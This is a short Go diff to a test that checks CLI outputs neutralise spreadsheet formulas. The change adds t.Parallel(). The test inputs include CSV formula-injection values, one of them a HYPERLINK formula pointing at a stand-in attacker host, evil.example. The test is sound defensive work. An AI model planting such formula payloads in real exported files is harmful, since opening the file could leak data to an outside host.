@@ -53,6 +53,7 @@ func readSafeCSV(t *testing.T, name string, data []byte) [][]string {
 // back as they were: embed → eval (--in, --truth, --labels), kernel
 // (matrix, PCA, clusters), simulate --coords with landmarks named by id.
 func TestCLIOutputsNeutraliseFormulas(t *testing.T) {
+	t.Parallel()
 	dir := t.TempDir()
 	ids := []string{`=HYPERLINK("http://evil.example/?x=","click")`, "=1+1", "+SUM(1,2)", "@SUM(1)", "-2+3",
 		"＝1", " =2", "'=3", "-0.5", "p9", "p10", "p11"}
